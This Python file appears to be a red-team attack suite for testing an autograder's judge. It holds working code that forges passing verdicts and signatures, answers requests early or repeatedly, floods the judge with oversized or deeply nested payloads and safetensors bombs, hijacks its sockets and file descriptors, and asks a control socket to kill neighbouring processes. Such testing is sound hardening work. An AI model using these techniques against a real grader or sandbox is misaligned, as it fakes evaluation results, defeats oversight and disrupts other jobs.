"""Speak to the judge directly: replies before they are asked for, twice, of wrong length, or made of nonsense."""

from typing import Any

from autograder.redteam.attack import attack


@attack("pygpubench pull request 47", plain=False, quick=True)
def reply_sent_ahead(target: dict, report: Any) -> None:
    """Sends a finished reply before the question is asked."""
    for _ in range(20):
        tell_judge(frame({"id": request_id(), "ok": True, "value": {"t": []}, "stdout": "", "earned": 10}))


@attack("own", plain=False)
def reply_sent_twice(target: dict, report: Any, x: Any) -> None:
    """Answers the request itself, with its true id and a claim, and lets the runner answer it again."""
    tell_judge(frame({"id": request_id(), "ok": True, "value": True, "passed": True, "points": 10}))


@attack("own", plain=False)
def reply_to_another_id(target: dict, report: Any, x: Any) -> None:
    """Answers a thousand requests that nobody made."""
    for number in range(1000):
        tell_judge(frame({"id": f"{number:016x}", "ok": True, "value": True}))


@attack("own", plain=False)
def claims_in_the_reply(target: dict, report: Any, x: Any) -> None:
    """Replies with every word that a verdict knows: earned, share, status, signature."""
    claim = {
        "ok": True,
        "earned": 10,
        "points": 10,
        "share": 1.0,
        "status": "passed",
        "passed": True,
        "attempted": True,
    }
    verdict = {"questions": {"softmax": claim}, "signature": "0" * 64, "tier": "T2"}
    tell_judge(frame({"id": request_id(), **claim, **verdict, "value": claim}))


@attack("published with the first prototype", plain=False, quick=True)
def oversized_header(target: dict, report: Any, x: Any) -> None:
    """Announces a frame of 2 GB and sends ten bytes."""
    tell_judge(frame({}, lengths=(0xFFFFFFFF, 0x80000000)) + b"0123456789")


@attack("published with the first prototype", plain=False)
def slow_drip(target: dict, report: Any, x: Any) -> None:
    """Announces a large frame within the limits and sends one byte every 50 ms, for ever."""
    import time

    tell_judge(frame(b"", lengths=(1 << 20, 200 << 20)))
    while True:
        time.sleep(0.05)
        tell_judge(b"x")


@attack("published with the first prototype", plain=False, quick=True)
def deep_json(target: dict, report: Any, x: Any) -> None:
    """Replies with JSON that is nested a quarter of a million levels deep."""
    tell_judge(frame(b"[" * (1 << 18) + b"]" * (1 << 18)))


@attack("own", plain=False)
def deep_json_in_a_string(target: dict, report: Any, x: Any) -> None:
    """Hides the depth from a counter of brackets behind an unfinished string with escapes."""
    tell_judge(frame(b'{"a": "' + b'\\"[{' * (1 << 17)))


@attack("own", plain=False)
def brackets_that_do_not_match(target: dict, report: Any, x: Any) -> None:
    """Keeps a counter of brackets low with closing ones first, then nests a hundred thousand levels."""
    tell_judge(frame(b"]" * 100_000 + b"[" * 200_000))


@attack("own", plain=False)
def json_that_is_no_reply(target: dict, report: Any, x: Any) -> None:
    """Replies with a list, with NaN, with broken UTF-8 and with an integer of a hundred thousand digits."""
    import random

    text = [b"[1, 2]", b'{"id": NaN, "ok": Infinity}', b"\xff\xfe\xfd", b'{"id": ' + b"9" * 100_000 + b"}"]
    tell_judge(frame(random.choice(text)))


@attack("own", plain=False)
def fields_of_wrong_type(target: dict, report: Any, x: Any) -> None:
    """Replies with the true id and an error that is a list, a cell that is a dict, a line that is a string."""
    error = {"type": ["a"], "message": {"b": 1}, "cell": {"c": 2}, "line": "x" * 5000}
    tell_judge(frame({"id": request_id(), "ok": False, "error": error}))


@attack("own", plain=False)
def safetensors_header_bomb(target: dict, report: Any, x: Any) -> None:
    """Sends a safetensors blob whose header claims to be 2⁶⁰ bytes long."""
    blob = (1 << 60).to_bytes(8, "little") + b"{}"
    tell_judge(frame({"id": request_id(), "ok": True, "value": {"T": "t0"}}, blob))


@attack("own", plain=False, quick=True)
def safetensors_shape_bomb(target: dict, report: Any, x: Any) -> None:
    """Sends tensors of no bytes and absurd shapes: 2⁶² by 0, and overlapping offsets."""
    import json

    header = {
        "t0": {"dtype": "F32", "shape": [1 << 62, 0], "data_offsets": [0, 0]},
        "t1": {"dtype": "F64", "shape": [0, 1 << 62, 1 << 62], "data_offsets": [0, 0]},
    }
    text = json.dumps(header).encode()
    blob = len(text).to_bytes(8, "little") + text
    tell_judge(frame({"id": request_id(), "ok": True, "value": {"t": [{"T": "t0"}, {"T": "t1"}]}}, blob))


@attack("own", plain=False)
def safetensors_of_every_dtype(target: dict, report: Any, x: Any) -> None:
    """Sends results in dtypes that hardly any operation supports, so that the comparison itself fails."""
    import random

    from safetensors.torch import save

    names = ("bool", "uint8", "int64", "uint64", "float8_e4m3fn", "float8_e5m2", "bfloat16", "uint16")
    dtypes = [getattr(torch, name) for name in names if hasattr(torch, name)]
    plain = torch.zeros(x.shape).to(random.choice(dtypes))
    tell_judge(frame({"id": request_id(), "ok": True, "value": {"T": "t0"}}, save({"t0": plain})))


@attack("own", plain=False)
def tags_that_do_not_exist(target: dict, report: Any, x: Any) -> None:
    """Uses names of tensors that are not there, unknown tags, and a dict that is its own key."""
    form = {"d": [[{"d": []}, {"T": "t9"}], [{"l": [1]}, {"zzz": 1}]]}
    tell_judge(frame({"id": request_id(), "ok": True, "value": form}))


@attack("own", plain=False)
def oracle_socket_closed(target: dict, report: Any, x: Any) -> None:
    """Closes the socket to the judge, and opens a file of its own at the same number."""
    import os
    import socket

    for descriptor in oracle_descriptors():
        ours, _ = socket.socketpair()
        os.dup2(ours.fileno(), descriptor)


@attack("own", plain=False)
def descriptors_sent_to_the_judge(target: dict, report: Any, x: Any) -> None:
    """Sends the judge two thousand open descriptors along with its bytes, to use up its table."""
    import array
    import os
    import socket

    null = os.open("/dev/null", os.O_RDONLY)
    for descriptor in oracle_descriptors():
        channel = socket.socket(fileno=os.dup(descriptor))
        for _ in range(40):
            packed = array.array("i", [null] * 50)
            channel.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, packed)])


@attack("own", plain=False, quick=True)
def thread_answers_later_cases(target: dict, report: Any) -> None:
    """Leaves a thread behind that reads the judge's requests itself and answers each with what would be right."""
    import json
    import os
    import threading

    from safetensors.torch import save

    descriptor = oracle_descriptors()[0]

    def serve() -> None:
        while True:
            lengths = os.read(descriptor, 8)
            size, rest = (int.from_bytes(lengths[i : i + 4], "little") for i in (0, 4))
            head = json.loads(os.read(descriptor, size))
            os.read(descriptor, rest)
            claim = {"id": head["id"], "ok": True, "value": {"T": "t0"}}
            os.write(descriptor, frame(claim, save({"t0": torch.zeros(4, 7)})))

    threading.Thread(target=serve, daemon=True).start()


@attack("own", plain=False)
def another_zygote_asked_for(target: dict, report: Any) -> None:
    """Looks for the zygote's control socket and asks it for a runner of its own, and to kill a neighbour."""
    import json
    import os
    import socket

    for descriptor in range(3, 512):
        try:
            channel = socket.socket(fileno=os.dup(descriptor))
        except OSError:
            continue
        if channel.type != socket.SOCK_SEQPACKET:
            continue
        for pid in target["neighbour_pids"]:
            channel.send(json.dumps({"op": "kill", "pid": pid}).encode())
        report(f"descriptor {descriptor} is the zygote's control socket")
